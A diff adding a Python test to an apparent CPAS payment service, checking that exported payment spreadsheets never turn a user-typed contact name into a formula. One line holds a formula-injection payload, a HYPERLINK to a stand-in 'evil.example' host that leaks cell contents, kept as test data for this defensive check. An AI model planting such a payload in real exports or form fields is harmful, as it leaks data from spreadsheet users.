@@ -373,3 +373,25 @@ def test_every_shipped_schema_declares_its_settlement():
         "fge": ("unused", None), "personnel": ("to_reimburse", None),
         "pas": ("to_reimburse", None), "piis": ("to_reimburse", None),
         "piis_pt": ("to_reimburse", None)}
+
+
+def test_a_text_typed_by_a_cpas_is_never_a_formula_in_an_export(service):
+    add_cpas(service, "99997", "1000.00")
+    send(service, "99997", "900", IBAN_A)
+    agent = actor(service, "agent99997")
+    # the frozen contact is what the payments list shows: sent again after a reopening, with a
+    # contact name that a spreadsheet would run as a formula
+    service.reopen(actor(service, "admin"), "99997", *COVID, "contact à corriger")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'
+    service.update_cpas(agent, "99997", {"iban": IBAN_A, "bic": "GEBABEBB",
+                                         "contact_name": hostile})
+    view = service.form(agent, "99997", *COVID)
+    once = service.sign(actor(service, "president99997"), "99997", *COVID, "president",
+                        view.content_hash)
+    service.sign(actor(service, "secretary99997"), "99997", *COVID, "secretary",
+                 once.content_hash)
+    data = service.export_payments(actor(service, "admin"), *COVID)
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert "<f>" not in money_xml(data)  # no formula anywhere in the sheet
